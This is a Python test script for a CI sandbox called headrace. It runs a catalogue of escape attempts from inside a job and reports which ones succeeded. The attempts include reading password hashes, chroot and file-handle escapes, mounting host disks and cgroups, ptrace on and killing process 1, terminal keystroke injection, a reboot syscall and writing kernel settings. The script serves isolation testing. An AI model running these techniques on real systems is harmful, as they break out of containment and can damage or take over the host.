"""What a hostile job tries, one function for each attempt. This file is the script of a step.

An attempt returns what it has got hold of, as text; empty, or an OSError, means that the machine held. It runs in a child of
its own, so that it may spoil its own view. FACTS, in the environment, says where the victim has put what.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import os
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable

MARK = b"a secret " + b"of the victim"
"""In every text that no job may read; in two parts, so that this script is not taken for one."""

FACTS = json.loads(os.environ.get("FACTS", "{}"))
ATTEMPTS: dict[str, Callable[[], str]] = {}
PLAIN: set[str] = set()
"""Attempts that do no harm where they succeed: without a sandbox they must."""

_SECONDS = 20
_libc = ctypes.CDLL(None, use_errno=True)
_ARM = os.uname().machine == "aarch64"
_NEWNS, _NEWCGROUP, _NEWUSER = 0x20000, 0x2000000, 0x10000000
_BIND, _REMOUNT, _DETACH = 4096, 32, 2


def attempt(name: str, plain: bool = False) -> Callable[[Callable[[], str]], Callable[[], str]]:
    def enter(function: Callable[[], str]) -> Callable[[], str]:
        ATTEMPTS[name] = function
        if plain:
            PLAIN.add(name)
        return function

    return enter


def call(name: str, *arguments: object) -> int:
    """A function of the C library. Raises OSError."""
    result = getattr(_libc, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), name)
    return int(result)


def system_call(x86: int, arm: int, *arguments: object) -> int:
    return call("syscall", arm if _ARM else x86, *arguments)


def mount(source: str, target: str, kind: str = "", flags: int = 0, options: str = "") -> None:
    call("mount", source.encode(), target.encode(), kind.encode() or None, ctypes.c_ulong(flags), options.encode() or None)


def readable(path: str, limit: int = 1 << 20) -> bytes:
    """What can be read at a path without waiting; nothing where that is refused."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(fd, limit)
    except OSError:
        return b""
    finally:
        os.close(fd)


def marked(paths: list[str]) -> str:
    return " ".join(path for path in paths if MARK in readable(path))


def opened(paths: list[str], flags: int) -> str:
    """Those that can be opened; nothing is written."""
    found = []
    for path in paths:
        try:
            os.close(os.open(path, flags | os.O_NONBLOCK))
        except OSError:
            continue
        found.append(path)
    return " ".join(found)


def works(function: Callable[..., object], *arguments: object) -> bool:
    try:
        function(*arguments)
    except OSError:
        return False
    return True


def create(path: str) -> None:
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT))


def done(**calls: Callable[[], object]) -> str:
    """The names of the calls that did not fail."""
    return " ".join(name for name, function in calls.items() if works(function))


# -- files --------------------------------------------------------------------------------------------------------------


@attempt("reads files in the HOME of its caller", plain=True)
def _home() -> str:
    return marked(FACTS["home"])


@attempt("reads the state of headrace", plain=True)
def _state() -> str:
    return " ".join(name for name in os.listdir(FACTS["state"]))


@attempt("reads the repository itself", plain=True)
def _repository() -> str:
    return " ".join(name for name in os.listdir(FACTS["repository"]))


@attempt("reads what only root may read", plain=True)
def _private() -> str:
    if not FACTS["private"]:
        return "none" if FACTS["bare"] else ""
    return marked(FACTS["private"])


@attempt("reads what only its caller may read", plain=True)
def _own() -> str:
    return marked(FACTS["own"])


@attempt("reads what only a group of its caller may read", plain=True)
def _group() -> str:
    return marked(FACTS["group"]) if FACTS["group"] or not FACTS["bare"] else "none"


@attempt("reads the hashes of passwords")
def _shadow() -> str:
    lines = [
        line.split(":") for path in ("/etc/shadow", "/etc/gshadow") for line in readable(path).decode("latin-1").splitlines()
    ]
    return " ".join(words[0] for words in lines if len(words) > 1 and "$" in words[1])


@attempt("writes to where it is seen from outside")
def _write() -> str:
    """Whether that works is no matter: the victim looks afterwards."""
    for path in FACTS["targets"]:
        works(os.makedirs, path)
        works(create, f"{path}/file")
    for path in FACTS["exposed"]:
        works(os.truncate, path, 1)
        works(os.chmod, path, 0o777)
        works(os.link, path, f"{path}.linked")
        works(os.unlink, path)
    return ""


@attempt("puts whiteouts, devices and redirections where its layers lie")
def _whiteouts() -> str:
    for folder in ("/usr", "/etc", "/opt", "/var", "/tmp", "/run/scratch"):
        works(os.mknod, f"{folder}/white", stat.S_IFCHR | 0o666, 0)
        works(os.setxattr, folder, "user.overlay.opaque", b"y")
        works(os.setxattr, folder, "user.overlay.redirect", b"/root")
    works(os.rename, "/usr/bin/env", "/usr/bin/env.gone")
    works(os.unlink, "/etc/passwd")
    return marked(FACTS["private"] + FACTS["home"])


@attempt("makes device nodes and opens them")
def _nodes() -> str:
    found = []
    kinds = (
        ("disk", stat.S_IFBLK, (254, 0)),
        ("sda", stat.S_IFBLK, (8, 0)),
        ("mem", stat.S_IFCHR, (1, 1)),
        ("tty", stat.S_IFCHR, (4, 0)),
    )
    for folder in ("/tmp", "/dev", "/dev/shm", "/run/scratch", "/run/headrace/packages", "/usr", os.getcwd()):
        for name, kind, number in kinds:
            path = f"{folder}/node-{name}"
            if works(os.mknod, path, kind | 0o666, os.makedev(*number)):
                found.append(path)
    return " ".join(found)


@attempt("finds devices that are the machine's")
def _found() -> str:
    allowed = {"null", "zero", "full", "random", "urandom", "tty", "tun", "ptmx"}
    found = []
    for folder, folders, files in os.walk("/dev"):
        for name in [*files, *folders]:
            status = os.lstat(f"{folder}/{name}")
            if stat.S_ISBLK(status.st_mode) or (stat.S_ISCHR(status.st_mode) and name not in allowed):
                found.append(f"{folder}/{name}")
    return " ".join(found)


@attempt("mounts what holds the machine's own things")
def _mounts() -> str:
    os.makedirs("/tmp/mounted", exist_ok=True)
    call("unshare", _NEWNS)
    with open("/proc/partitions") as file:
        disks = [f"/dev/{line.split()[3]}" for line in file.readlines()[2:] if line.strip()]
    kinds = [
        (kind, kind)
        for kind in ("debugfs", "tracefs", "securityfs", "configfs", "pstore", "efivarfs", "devtmpfs", "fusectl", "nfsd")
    ]
    kinds += [(disk, kind) for disk in disks for kind in ("ext4", "xfs", "btrfs")]
    found = []
    for source, kind in kinds:
        if works(mount, source, "/tmp/mounted", kind):
            found.append(source)
    return " ".join(found)


@attempt("changes the machine through a sysfs or proc of its own")
def _fresh() -> str:
    call("unshare", _NEWNS | 0x40000000)
    found = []
    os.makedirs("/tmp/fresh", exist_ok=True)
    knobs = ("kernel/mm/transparent_hugepage/enabled", "kernel/uevent_helper", "power/state", "power/disk", "kernel/profiling")
    for words in (("", "/sys", "", _REMOUNT), ("sysfs", "/tmp/fresh", "sysfs")):
        works(mount, *words)
        found += [opened([f"{place}/{knob}" for place in ("/sys", "/tmp/fresh") for knob in knobs], os.O_WRONLY)]
    return " ".join(filter(None, found))


@attempt("writes to control groups that are not its own")
def _cgroups() -> str:
    """From a namespace of its own, where it may mount them."""
    call("unshare", _NEWNS | _NEWCGROUP)
    os.makedirs("/tmp/groups", exist_ok=True)
    found = []
    for kind, options in (
        ("cgroup2", ""),
        *(("cgroup", name) for name in ("pids", "memory", "cpu", "freezer", "devices", "none,name=systemd")),
    ):
        if works(mount, kind, "/tmp/groups", kind, 0, options):
            names = ["cgroup.kill", "cgroup.freeze", "freezer.state", "release_agent", "devices.allow", "memory.limit_in_bytes"]
            found += [f"{kind} {options} {opened([f'/tmp/groups/{name}' for name in names], os.O_WRONLY)}"]
            call("umount2", b"/tmp/groups", _DETACH)
    return " ".join(each for each in found if each.strip().count("/"))


@attempt("takes its mounts away to see what lies below")
def _umounts() -> str:
    call("unshare", _NEWNS)
    for _ in range(3):
        with open("/proc/self/mountinfo") as file:
            points = [line.split()[4] for line in file]
        for point in sorted(points, key=len, reverse=True):
            if point not in ("/", "/proc"):
                works(call, "umount2", point.encode(), _DETACH)
    with open("/etc/shadow") if os.path.exists("/etc/shadow") else open(os.devnull) as file:
        hashes = [line for line in file if ":$" in line]
    return " ".join(filter(None, [marked([*FACTS["private"], *FACTS["own"], *FACTS["home"]]), "hashes" if hashes else ""]))


@attempt("gets out of its root with chroot and pivot_root")
def _chroot() -> str:
    os.makedirs("/tmp/cage", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/cage")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return marked([*FACTS["home"], *FACTS["private"], *FACTS["own"]])


@attempt("opens files of its machine by their handles")
def _handles() -> str:
    """Folder 2 is the root of an ext4, 128 of an xfs, 256 of a btrfs."""
    found = []
    for folder in ("/", "/usr", "/etc", "/run/scratch", "/run/headrace/packages", "/dev/null", "/dev/net/tun"):
        try:
            mounted = os.open(folder, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for number in (2, 128, 256):
            handle = struct.pack("IiIIII", 8, 1, number, 0, 0, 0)
            for flags in (os.O_RDONLY | os.O_DIRECTORY, os.O_RDONLY, os.O_PATH):
                try:
                    fd = system_call(304, 265, mounted, handle, flags)
                except OSError:
                    continue
                found.append(f"{folder} {number} {os.listdir(f'/proc/self/fd/{fd}')[:5]}")
    return " ".join(found)


@attempt("walks up from a folder that it shares with its machine")
def _upwards() -> str:
    found = []
    for folder in ("/run/headrace/packages", "/run/scratch"):
        if os.path.isdir(folder):
            here = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
            for _ in range(8):
                here = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=here)
                found += [
                    name
                    for name in os.listdir(here)
                    if name in ("up", "overlay", "trees") or name.startswith(("trusted", "fork"))
                ]
    return " ".join(found)


@attempt("runs programs that are root's on the machine")
def _setuid() -> str:
    found = []
    for program in FACTS["setuid"]:
        if not os.path.exists(program):
            continue
        for path in FACTS["private"]:
            done_ = subprocess.run([program, path], capture_output=True, check=False)
            found += [path] if MARK in done_.stdout else []
    for words in (["su", "-c", "id -u"], ["sudo", "-n", "cat", *FACTS["private"]]):
        try:
            said = subprocess.run(words, capture_output=True, check=False, stdin=subprocess.DEVNULL, timeout=5).stdout
        except (OSError, subprocess.TimeoutExpired):
            continue
        found += [" ".join(words)] if MARK in said else []
    return " ".join(found)


@attempt("is told where things lie on the machine")
def _mountinfo() -> str:
    """Three places are told, in which nothing is but what the job itself has there."""
    with open("/proc/self/mountinfo") as file:
        lines = [line.split() for line in file]
    known = {"/run/headrace/packages", "/run/scratch", "/dev/net/tun"}
    return " ".join(
        f"{words[4]}={words[3]}" for words in lines if words[3] != "/" and words[4] not in known and words[3] != words[4][4:]
    )


# -- processes ----------------------------------------------------------------------------------------------------------


@attempt("reads memory, environment or command line of others", plain=True)
def _processes() -> str:
    found = []
    others = [pid for pid in os.listdir("/proc") if pid.isdecimal() and int(pid) != os.getpid()]
    for pid in others:
        found += marked([f"/proc/{pid}/{name}" for name in ("environ", "cmdline", "mem", "auxv", "maps")]).split()
    return " ".join(found)


@attempt("sees processes that are not of its job", plain=True)
def _others() -> str:
    return f"the victim's, {FACTS['pid']}" if MARK in readable(f"/proc/{FACTS['pid']}/environ") else ""


@attempt("gets into process 1 of its job")
def _first() -> str:
    links = ("root", "cwd", "exe", "ns/mnt", "ns/pid", "ns/user", "ns/net")
    found = [name for name in links if works(os.readlink, f"/proc/1/{name}")]
    for folder in ("/proc/1/fd", "/proc/1/map_files"):
        if works(os.listdir, folder):  # their numbers tell nothing
            found += [path for path in os.listdir(folder) if works(os.readlink, f"{folder}/{path}")]
    private = ("environ", "mem", "maps", "smaps", "auxv", "io", "stack", "syscall", "pagemap", "personality", "timers", "exe")
    found += opened([f"/proc/1/{name}" for name in private if readable(f"/proc/1/{name}")], os.O_RDONLY).split()
    found += opened(["/proc/1/mem", "/proc/1/exe"], os.O_WRONLY).split()
    pid = os.pidfd_open(1)
    found += [f"fd {number}" for number in range(24) if works(system_call, 438, 438, pid, number, 0)]
    buffer = ctypes.create_string_buffer(16)
    vector = struct.pack("PN", ctypes.addressof(buffer), 16)
    remote = struct.pack("PN", 0x400000, 16)
    found += done(
        seize=lambda: call("ptrace", 0x4206, 1, None, None),
        attach=lambda: call("ptrace", 16, 1, None, None),
        memory=lambda: system_call(310, 270, 1, vector, 1, remote, 1, 0),
        enter=lambda: call("setns", pid, _NEWNS),
    ).split()
    return " ".join(found)


@attempt("stops or kills process 1 of its job")
def _kill() -> str:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGQUIT, signal.SIGHUP):
        works(os.kill, 1, number)
    time.sleep(0.05)
    with open("/proc/1/stat") as file:
        state = file.read().rpartition(")")[2].split()[0]
    return state if state in "TtZX" else ""


@attempt("holds what the engine or its caller has open")
def _descriptors() -> str:
    found = []
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            status, name = os.fstat(number), os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue  # of the listing itself
        if (
            number in START
            and not (number == 0 and name == "/dev/null")
            and not (number in (1, 2) and stat.S_ISFIFO(status.st_mode))
        ):
            found.append(f"{number}={name}")
    return " ".join(found)


@attempt("types on the terminal of its caller")
def _terminal() -> str:
    found = []
    for path in ("/dev/tty", FACTS["terminal"], "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        except OSError:
            continue
        if os.isatty(fd):
            found.append(path)
            works(fcntl.ioctl, fd, 0x5412, b"\n")
    return " ".join(found)


@attempt("reads the keys of its caller", plain=True)
def _keys() -> str:
    found = []
    for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user session
        try:
            key = system_call(250, 219, 10, ctypes.c_int(ring), b"user", FACTS["key"].encode(), 0)
            buffer = ctypes.create_string_buffer(256)
            system_call(250, 219, 11, key, buffer, 256)
        except OSError:
            continue
        found += [str(ring)] if MARK in buffer.value else []
    return " ".join(found) or ("none" if FACTS["bare"] and not FACTS["keys"] else "")


def permitted(**calls: Callable[[], object]) -> str:
    """The names of the calls that failed for another reason than a lack of power, or not at all."""
    found = []
    for name, function in calls.items():
        try:
            function()
        except OSError as error:
            if error.errno in (errno.EPERM, errno.EACCES, errno.ENOSYS):
                continue
        found.append(name)
    return " ".join(found)


@attempt("takes powers of the machine's root")
def _powers() -> str:
    now = struct.pack("qq", int(time.time()), 0)
    event = ctypes.create_string_buffer(struct.pack("IIQQ", 1, 112, 0, 10000), 112)
    program = ctypes.create_string_buffer(64)
    found = permitted(
        module=lambda: system_call(175, 105, None, 0, b""),
        kexec=lambda: system_call(246, 104, 0, 0, None, 0),
        swap=lambda: system_call(167, 224, b"/dev/zero", 0),
        accounting=lambda: system_call(163, 89, None),
        clock=lambda: call("clock_settime", 0, now),
        log=lambda: call("klogctl", 5, None, 0),
        bpf=lambda: system_call(321, 280, 11, program, 64),
        watch=lambda: call("fanotify_init", 4, 0),
        realtime=lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        nice=lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
    )
    if int(readable("/proc/sys/kernel/perf_event_paranoid") or b"2") > 0:
        found += permitted(perf=lambda: system_call(298, 241, event, -1, 0, -1, 0))
    found += done(reboot=lambda: system_call(169, 142, 0xFEE1DEAD - (1 << 32), 672274793, 0, None))
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")
    return found + " oom"


@attempt("turns knobs of the kernel")
def _knobs() -> str:
    names = """kernel/core_pattern kernel/core_uses_pid kernel/modprobe kernel/panic kernel/sysrq kernel/randomize_va_space
        kernel/dmesg_restrict kernel/kptr_restrict kernel/unprivileged_bpf_disabled kernel/perf_event_paranoid kernel/printk
        kernel/threads-max kernel/poweroff_cmd kernel/kexec_load_disabled kernel/io_uring_disabled vm/drop_caches
        vm/overcommit_memory vm/swappiness vm/panic_on_oom vm/mmap_min_addr vm/unprivileged_userfaultfd
        fs/protected_symlinks fs/protected_hardlinks fs/suid_dumpable fs/file-max fs/pipe-max-size fs/inotify/max_user_watches"""
    written = [f"/proc/sys/{name}" for name in names.split()]
    written += [
        "/proc/sysrq-trigger",
        "/proc/mtrr",
        "/proc/irq/0/smp_affinity",
        "/proc/irq/default_smp_affinity",
        "/proc/acpi/wakeup",
    ]
    written += ["/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled"]
    read = ["/proc/kcore", "/proc/kmsg", "/proc/vmcore", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg"]
    return " ".join(filter(None, [opened(written, os.O_WRONLY), opened(read, os.O_RDONLY)]))


# -- what is shared by name ---------------------------------------------------------------------------------------------


@attempt("reaches the machine's sockets", plain=True)
def _sockets() -> str:
    found = []
    for family, address in (
        (socket.AF_UNIX, f"\0{FACTS['abstract']}"),
        (socket.AF_UNIX, FACTS["socket"]),
        (socket.AF_INET, ("127.0.0.1", FACTS["port"])),
    ):
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(3)
            if works(one.connect, address):
                found.append(str(address))
    return " ".join(found)


@attempt("finds sockets of services")
def _services() -> str:
    allowed = {"headrace", "lock", "scratch"}
    return " ".join(name for name in os.listdir("/run") if name not in allowed)


@attempt("writes into a FIFO that a process of the machine reads", plain=True)
def _fifo() -> str:
    return opened([FACTS["fifo"]], os.O_WRONLY)


@attempt("reaches shared memory, semaphores and queues of the machine", plain=True)
def _ipc() -> str:
    return done(
        memory=lambda: call("shmget", FACTS["ipc"], 0, 0),
        semaphores=lambda: call("semget", FACTS["ipc"], 0, 0),
        messages=lambda: call("msgget", FACTS["ipc"], 0),
        queue=lambda: call("mq_open", FACTS["queue"].encode(), os.O_RDONLY),
        shared=lambda: os.stat(FACTS["shm"]),
    )


@attempt("sees the machine's network and name")
def _network() -> str:
    found = [] if FACTS["bare"] or os.uname().nodename == "runner" else [os.uname().nodename]
    return " ".join([*found, *(name for name in os.listdir("/sys/class/net") if name not in ("lo", "tap0", "bonding_masters"))])


@attempt("finds files of a job beside it")
def _neighbour() -> str:
    packages = os.path.dirname(os.environ.get("PIP_CACHE_DIR", "/nowhere/pip"))
    if FACTS["bare"] or "NEIGHBOUR" not in os.environ:
        return ""
    ready, looked = f"{packages}/neighbour-is-ready", f"{packages}/looked"
    for _ in range(1500):
        if os.path.exists(ready):
            break
        time.sleep(0.01)
    else:
        return "it never came"
    homes = [
        os.path.expanduser("~"),
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run/scratch",
        os.getcwd(),
        os.environ["RUNNER_TEMP"],
        "/usr",
        "/etc",
    ]
    found = [folder for folder in homes if os.path.exists(f"{folder}/neighbour")]
    with socket.socket(socket.AF_UNIX) as one:
        found += ["its abstract socket"] if works(one.connect, "\0neighbour") else []
    with socket.socket() as other:
        other.settimeout(3)
        found += ["its port"] if works(other.connect, ("127.0.0.1", 28288)) else []
    create(looked)
    return " ".join(found)


@attempt("makes its packages' folder, and a program with its ids in it, public")
def _packages() -> str:
    """The victim looks whether anybody else could get there."""
    for folder in ("/run/headrace/packages", "/run/scratch", "/tmp", os.path.expanduser("~")):
        program = f"{folder}/setuid"
        works(create, program)
        works(os.chmod, program, 0o4777)
        works(os.chmod, folder, 0o777)
    return ""


# -- the program --------------------------------------------------------------------------------------------------------

START = {int(name) for name in os.listdir("/proc/self/fd")}


def try_one(function: Callable[[], str]) -> str:
    """What an attempt says, from a child of its own; `broken: …` where it fails of itself."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(_SECONDS)
        try:
            os.close(reading)
            said = function()
        except OSError:
            said = ""
        except BaseException as error:
            said = f"broken: {type(error).__name__}: {error}"
        os.write(writing, said.encode("utf-8", "replace")[:4000])
        os._exit(0)
    os.close(writing)
    with open(reading, "rb") as file:
        said = file.read().decode()
    status = os.waitpid(child, 0)[1]
    return said or (f"broken: signal {status}" if os.WIFSIGNALED(status) else "")


def main() -> None:
    for name, function in ATTEMPTS.items():
        if FACTS["bare"] and name not in PLAIN:
            continue
        sys.stdout.write(f"attempt: {json.dumps([name, re.sub(r'[^ -~]', '?', try_one(function))])}\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
